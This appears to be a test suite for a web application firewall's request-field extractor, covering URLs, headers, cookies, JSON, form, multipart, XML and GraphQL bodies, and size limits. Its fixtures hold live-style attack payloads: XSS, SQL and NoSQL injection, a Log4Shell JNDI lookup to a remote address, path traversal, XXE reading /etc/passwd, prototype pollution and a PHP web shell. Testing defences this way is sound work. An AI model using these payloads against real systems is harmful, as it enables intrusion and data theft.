// Layer 2: the request pipeline through the public entry point.
import { describe, expect, it } from 'vitest';
import { createExtractor, extractFields, WaferError, type Field, type WafRequest } from '../src/index.js';

const enc = new TextEncoder();

function get(target: string, headers: [string, string][] = []): WafRequest {
  return { method: 'GET', target, httpVersion: '1.1', headers };
}

function post(target: string, contentType: string | undefined, body: string | Uint8Array): WafRequest {
  return {
    method: 'POST',
    target,
    httpVersion: '1.1',
    headers: contentType ? [['Content-Type', contentType]] : [],
    body: typeof body === 'string' ? enc.encode(body) : body,
  };
}

function byPath(fields: Field[], path: string, kind: 'value' | 'key' = 'value'): Field | undefined {
  return fields.find((f) => f.path === path && f.kind === kind);
}

describe('URL', () => {
  it('extracts the path and decoded query values with their raw form and transforms', () => {
    const { fields } = extractFields(
      get('/search/../items?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&page=2#top'),
    );
    expect(byPath(fields, 'path')).toMatchObject({
      location: 'path',
      raw: '/search/../items',
      value: '/items',
    });
    expect(byPath(fields, 'query.q')).toMatchObject({
      location: 'query',
      name: 'q',
      raw: '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
      value: '<script>alert(1)</script>',
    });
    expect(byPath(fields, 'query.q')!.transforms).toContain('url-decode');
    expect(byPath(fields, 'query.page')!.value).toBe('2');
  });

  it('keeps duplicate parameters, numbering later occurrences', () => {
    const { fields } = extractFields(get('/a?id=1&id=2%27%20OR%201=1--&id=3'));
    expect(byPath(fields, 'query.id')!.value).toBe('1');
    expect(byPath(fields, 'query.id(2)')!.value).toBe("2' or 1=1--");
    expect(byPath(fields, 'query.id(3)')!.value).toBe('3');
  });

  it('keeps bracketed names verbatim and inspects unusual names as keys', () => {
    const { fields } = extractFields(get('/a?filter[status]=open&tags[]=x&%3Cscript%3E=1'));
    expect(byPath(fields, 'query["filter[status]"]')!.value).toBe('open');
    expect(byPath(fields, 'query["tags[]"]')!.value).toBe('x');
    expect(fields.some((f) => f.kind === 'key' && f.value === '<script>')).toBe(true);
  });

  it('turns + into a space in queries only, and decodes double encoding', () => {
    const { fields } = extractFields(get('/p/a+b?q=a+b%2Bc&f=%252e%252e%252fetc%252fpasswd'));
    expect(byPath(fields, 'path')!.value).toBe('/p/a+b');
    expect(byPath(fields, 'query.q')!.value).toBe('a b+c');
    expect(byPath(fields, 'query.f')!.value).toBe('../etc/passwd');
  });

  it('reports bad percent-encoding but still inspects the value', () => {
    const { fields, findings } = extractFields(get('/a?x=%zz%3Cb%3E'));
    expect(byPath(fields, 'query.x')!.value).toBe('%zz<b>');
    expect(findings).toContainEqual(
      expect.objectContaining({ kind: 'malformed_input', reason: 'bad_percent_encoding', path: 'query.x' }),
    );
  });
});

describe('headers and cookies', () => {
  const request = get('/', [
    ['Host', 'shop.example'],
    ['User-Agent', '${jndi:ldap://203.0.113.9/a}'],
    ['Accept-Encoding', 'gzip'],
    ['X-Api-Version', '${jndi:dns://x}'],
    ['Cookie', 'session=abc123; prefs=%7B%22theme%22%3A%22dark%22%7D'],
    ['Authorization', 'Basic dXNlcjonIE9SIDE9MS0t'],
  ]);
  const { fields } = extractFields(request);

  it('inspects the default headers and non-standard ones, not protocol headers', () => {
    expect(byPath(fields, 'header.user-agent')!.value).toBe('${jndi:ldap://203.0.113.9/a}');
    expect(byPath(fields, 'header.x-api-version')).toBeDefined();
    expect(byPath(fields, 'header.accept-encoding')).toBeUndefined();
    expect(byPath(fields, 'header.host')).toBeUndefined();
  });

  it('splits cookies', () => {
    expect(byPath(fields, 'cookie.session')!.value).toBe('abc123');
    expect(byPath(fields, 'cookie.prefs')!.value).toBe('{"theme":"dark"}');
  });

  it('marks credentials sensitive and inspects the decoded Basic credentials', () => {
    const auth = fields.filter((f) => f.path === 'header.authorization');
    expect(auth.every((f) => f.sensitive)).toBe(true);
    expect(auth.some((f) => f.transforms.includes('base64-decode') && f.value === "user:' or 1=1--")).toBe(
      true,
    );
  });

  it('lets the header policy be configured', () => {
    const extractor = createExtractor({
      headers: { inspect: ['Host'], ignore: ['user-agent'], nonStandard: false },
    });
    const custom = extractor.extract(request).fields;
    expect(byPath(custom, 'header.host')).toBeDefined();
    expect(byPath(custom, 'header.user-agent')).toBeUndefined();
    expect(byPath(custom, 'header.x-api-version')).toBeUndefined();
  });
});

describe('bodies', () => {
  it('walks JSON values and keys, safe from prototype poisoning', () => {
    const body =
      '{"user":{"name":"Ana","password":{"$ne":null}},"items":[{"name":"a"},{"name":"<img src=x onerror=alert(1)>"}],"__proto__":{"admin":true}}';
    const { fields } = extractFields(post('/login', 'application/json', body));
    expect(byPath(fields, 'body.user.name')!.value).toBe('ana');
    expect(byPath(fields, 'body.user.password.$ne', 'key')!.value).toBe('$ne');
    expect(byPath(fields, 'body.items[1].name')!.value).toBe('<img src=x onerror=alert(1)>');
    expect(byPath(fields, 'body.__proto__', 'key')).toBeDefined();
    expect(byPath(fields, 'body.user', 'key')).toBeUndefined(); // plain identifier keys are not scored
    expect(({} as Record<string, unknown>)['admin']).toBeUndefined();
  });

  it('inspects broken JSON as text and reports it', () => {
    const { fields, findings } = extractFields(
      post('/api', 'application/json', '{"q": "1 UNION SELECT password FROM users'),
    );
    expect(findings).toContainEqual(
      expect.objectContaining({ kind: 'malformed_input', reason: 'broken_json' }),
    );
    expect(byPath(fields, 'raw.body')!.value).toContain('union select password');
  });

  it('parses urlencoded forms with + as space', () => {
    const { fields } = extractFields(
      post('/signup', 'application/x-www-form-urlencoded', 'name=O%27Brien&bio=I+like+%3Cb%3Ebold%3C%2Fb%3E'),
    );
    expect(byPath(fields, 'body.name')!.value).toBe("o'brien");
    expect(byPath(fields, 'body.bio')!.value).toBe('i like <b>bold</b>');
  });

  it('parses multipart text parts and file names', () => {
    const body = [
      '--XyZ',
      'Content-Disposition: form-data; name="title"',
      '',
      'Holiday photos',
      '--XyZ',
      'Content-Disposition: form-data; name="file"; filename="..\\..\\..\\windows\\win.ini"',
      'Content-Type: image/png',
      '',
      '\u0089PNG\u0000\u0000binary',
      '--XyZ--',
      '',
    ].join('\r\n');
    const { fields } = extractFields(post('/upload', 'multipart/form-data; boundary=XyZ', body));
    expect(byPath(fields, 'body.title')!.value).toBe('holiday photos');
    expect(byPath(fields, 'filename.file')).toMatchObject({
      location: 'filename',
      value: '../../../windows/win.ini',
    });
    expect(fields.some((f) => f.value.includes('png'))).toBe(false);
  });

  it('inspects XML as one text field', () => {
    const xml = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
    const { fields } = extractFields(post('/import', 'application/xml', xml));
    expect(byPath(fields, 'body')!.value).toContain('<!doctype r [<!entity x system "file:///etc/passwd">]>');
  });

  it('inspects GraphQL documents and their string arguments', () => {
    const body = JSON.stringify({ query: '{ user(name: "admin\' --") { id } }', variables: { id: '42' } });
    const { fields } = extractFields(post('/graphql', 'application/json', body));
    expect(byPath(fields, 'body.query#user.name')!.value).toBe("admin' --");
    expect(byPath(fields, 'body.variables.id')!.value).toBe('42');
  });

  it('inspects GraphQL sent over GET', () => {
    const query = encodeURIComponent('{ search(term: "<svg onload=alert(1)>") { id } }');
    const { fields } = extractFields(get(`/graphql?query=${query}`));
    expect(byPath(fields, 'query.query#search.term')!.value).toBe('<svg onload=alert(1)>');
  });

  it('inspects a body whose content type lies', () => {
    const { fields, findings } = extractFields(post('/avatar', 'image/png', '<?php system($_GET["c"]); ?>'));
    expect(findings).toContainEqual(expect.objectContaining({ reason: 'content_type_mismatch' }));
    expect(byPath(fields, 'body')!.value).toBe('<?php system($_get["c"]); ?>');
  });

  it('sniffs bodies without a content type', () => {
    const { fields } = extractFields(post('/api', undefined, '{"q":"hello"}'));
    expect(byPath(fields, 'body.q')!.value).toBe('hello');
  });
});

describe('limits', () => {
  it('reports limits and keeps inspecting what fits', () => {
    const extractor = createExtractor({ limits: { maxFields: 5, maxUrlLength: 200, maxJsonDepth: 3 } });
    const many = extractor.extract(get(`/a?${Array.from({ length: 50 }, (_, i) => `p${i}=${i}`).join('&')}`));
    expect(many.fields.length).toBeLessThanOrEqual(5);
    expect(
      many.findings.some(
        (f) => f.kind === 'limit_exceeded' && (f.limit === 'maxFields' || f.limit === 'maxUrlLength'),
      ),
    ).toBe(true);

    const deep = createExtractor({ limits: { maxJsonDepth: 3 } }).extract(
      post('/j', 'application/json', '{"a":{"b":{"c":{"d":"deep"}}},"e":"shallow"}'),
    );
    expect(deep.findings).toContainEqual(
      expect.objectContaining({ kind: 'limit_exceeded', limit: 'maxJsonDepth' }),
    );
    expect(byPath(deep.fields, 'body.e')!.value).toBe('shallow');
  });

  it('caps header count and bytes', () => {
    const headers: [string, string][] = Array.from({ length: 150 }, (_, i) => [`X-H${i}`, 'v']);
    const { findings } = extractFields(get('/', headers));
    expect(findings).toContainEqual(expect.objectContaining({ limit: 'maxHeaderCount', actual: 150 }));
  });

  it('caps body bytes', () => {
    const extractor = createExtractor({ limits: { maxBodyBytes: 10 } });
    const { findings, fields } = extractor.extract(post('/t', 'text/plain', 'hello world, this is long'));
    expect(findings).toContainEqual(expect.objectContaining({ limit: 'maxBodyBytes', max: 10 }));
    expect(byPath(fields, 'body')!.value).toBe('hello worl');
  });
});

describe('options', () => {
  it('rejects unknown options with a hint', () => {
    expect(() => createExtractor({ limits: { maxFeilds: 3 } } as never)).toThrow(
      /Did you mean `limits.maxFields`/,
    );
    expect(() => createExtractor({ caseFold: 'yes' } as never)).toThrow(WaferError);
    expect(() => createExtractor({ limits: { maxFields: 0 } })).toThrow(/positive integer/);
  });

  it('can keep case', () => {
    const { fields } = createExtractor({ caseFold: false }).extract(get('/A?q=SeLeCt'));
    expect(byPath(fields, 'query.q')!.value).toBe('SeLeCt');
  });
});
